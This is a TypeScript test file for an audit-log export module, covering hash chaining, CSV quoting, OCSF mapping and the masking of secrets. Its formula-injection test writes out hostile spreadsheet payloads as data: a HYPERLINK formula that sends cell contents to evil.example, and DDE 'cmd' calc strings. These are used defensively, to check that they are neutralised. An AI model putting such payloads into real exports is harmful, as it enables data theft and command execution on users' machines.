import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalJson, sha256Digest } from '../../lib/crypto/hash-chain.ts';
import { changesBetween, maskSecrets } from './audit.service.ts';
import {
  CSV_COLUMNS,
  chainedFields,
  csvField,
  csvHeader,
  csvRow,
  type ExportEntry,
  entryOrder,
  ocsfActivity,
  ocsfEvent,
  PRODUCT,
} from './audit-format.ts';

const record = {
  workspace_id: '00000000-0000-4000-8000-000000000001',
  created_at: new Date('2026-01-02T03:04:05.678Z'),
  actor_id: 'user-1',
  actor_kind: 'user' as const,
  action: 'member.added',
  target_type: 'member',
  target_id: 'user-2',
  changes: { role: { old: null, new: 'member' } },
  request_id: 'req-1',
  ip_address: '203.0.113.7',
};

const entry = (overrides: Partial<ExportEntry> = {}): ExportEntry => ({
  source: 'workspace',
  id: 1,
  time: '2026-01-02T03:04:05.678Z',
  actor: { id: 'user-1', kind: 'user' },
  action: 'member.added',
  target: { type: 'member', id: 'user-2' },
  changes: { role: { old: null, new: 'member' } },
  request_id: 'req-1',
  ip_address: '203.0.113.7',
  prev_hash: '',
  hash: 'a'.repeat(64),
  ...overrides,
});

describe('chainedFields', () => {
  it('are what a workspace link covers, hashed by the kernel the vault shares', async () => {
    const { createHash } = await import('node:crypto');
    const fields = chainedFields(record);
    const expected = createHash('sha256')
      .update(`prev\n${canonicalJson(fields)}`)
      .digest('hex');
    expect(sha256Digest('prev', fields)).toBe(expected);
    expect(
      sha256Digest('prev', chainedFields({ ...record, changes: { role: { new: 'member', old: null } } })),
    ).toBe(expected);
    expect(sha256Digest('other', fields)).not.toBe(expected);
    expect(sha256Digest('prev', chainedFields({ ...record, actor_id: 'user-3' }))).not.toBe(expected);
    expect(Object.keys(fields)).not.toContain('id');
    expect(Object.keys(fields)).not.toContain('hash');
  });
});

describe('CSV', () => {
  it('quotes per RFC 4180 and reads back through a CSV parser, whatever the text', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (target, note) => {
        const text = csvHeader() + csvRow(entry({ target: { type: 'flag', id: target }, changes: { note } }));
        const [row] = parse(text, { columns: true }) as Record<string, string>[];
        expect(row?.target_id).toBe(/^[=+\-@\t\r]/.test(target) ? `'${target}` : target);
        expect(JSON.parse(row?.changes ?? '')).toEqual({ note });
      }),
    );
    expect(csvField('a,"b"')).toBe('"a,""b"""');
  });

  it('neutralises every cell a spreadsheet would read as a formula, and keeps the quoting right', () => {
    for (const [value, written] of [
      [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
      ],
      ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
      ['-2+3', "'-2+3"],
      ['@SUM(1,2)', `"'@SUM(1,2)"`],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
    ] as const) {
      expect(csvField(value), JSON.stringify(value)).toBe(written);
    }
    // Only the first character counts; ordinary text and our own numbers are left alone.
    for (const value of ['a=b', 'user-1', 'x@example.com', '2026-01-02T03:04:05Z']) {
      expect(csvField(value)).toBe(value);
    }
    expect(csvField(42)).toBe('42');
    const hostile = entry({
      actor: { id: "=cmd|' /C calc'!A0", kind: 'user' },
      target: { type: 'member', id: '@SUM(A1:A9)' },
      request_id: '-1-1',
    });
    const [row] = parse(csvHeader() + csvRow(hostile), { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      actor_id: "'=cmd|' /C calc'!A0",
      target_id: "'@SUM(A1:A9)",
      request_id: "'-1-1",
      id: '1',
    });
    expect(csvField(null)).toBe('');
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('OCSF', () => {
  it('maps verbs to API Activity activities', () => {
    expect(ocsfActivity('member.added')).toEqual({ id: 1, name: 'Create' });
    expect(ocsfActivity('credential.accessed')).toEqual({ id: 2, name: 'Read' });
    expect(ocsfActivity('role.changed')).toEqual({ id: 3, name: 'Update' });
    expect(ocsfActivity('api_key.revoked')).toEqual({ id: 4, name: 'Delete' });
    expect(ocsfActivity('credential.tested')).toEqual({ id: 99, name: 'Other' });
  });

  it('fills the class, category, time, actor, api, endpoint and metadata', () => {
    expect(ocsfEvent(entry())).toMatchObject({
      class_uid: 6003,
      category_uid: 6,
      type_uid: 600301,
      time: Date.parse('2026-01-02T03:04:05.678Z'),
      actor: { user: { uid: 'user-1' } },
      api: { operation: 'member.added', request: { uid: 'req-1' } },
      src_endpoint: { ip: '203.0.113.7' },
      metadata: { uid: 'workspace:1', product: PRODUCT },
      unmapped: { source: 'workspace', target: { type: 'member', id: 'user-2' } },
    });
  });

  it('names the product at the package version', () => {
    const pkg = JSON.parse(readFileSync(new URL('../../../package.json', import.meta.url), 'utf8'));
    expect(PRODUCT.version).toBe(pkg.version);
  });
});

describe('entryOrder', () => {
  it('orders by time, workspace before vault, then id', () => {
    const sorted = [
      entry({ source: 'vault', id: 1, time: '2026-01-01T00:00:01.000Z' }),
      entry({ source: 'workspace', id: 9, time: '2026-01-01T00:00:01.000Z' }),
      entry({ source: 'workspace', id: 2, time: '2026-01-01T00:00:00.000Z' }),
    ].sort(entryOrder);
    expect(sorted.map((e) => `${e.source}:${e.id}`)).toEqual(['workspace:2', 'workspace:9', 'vault:1']);
  });
});

describe('changesBetween and maskSecrets', () => {
  it('lists only the fields that differ, ignoring key order', () => {
    expect(changesBetween({ a: 1, b: { x: 1, y: 2 } }, { a: 2, b: { y: 2, x: 1 }, c: true })).toEqual({
      a: { old: 1, new: 2 },
      c: { old: null, new: true },
    });
    expect(changesBetween(undefined, { a: 1 })).toEqual({ a: { old: null, new: 1 } });
  });

  it('masks values under secret-looking keys at any depth', () => {
    expect(
      maskSecrets({
        password: 'p',
        nested: [{ api_key: 'k', api_key_header: 'x-key' }],
        key: 'raw',
        name: 'n',
      }),
    ).toEqual({
      password: '[redacted]',
      nested: [{ api_key: '[redacted]', api_key_header: 'x-key' }],
      key: '[redacted]',
      name: 'n',
    });
  });
});
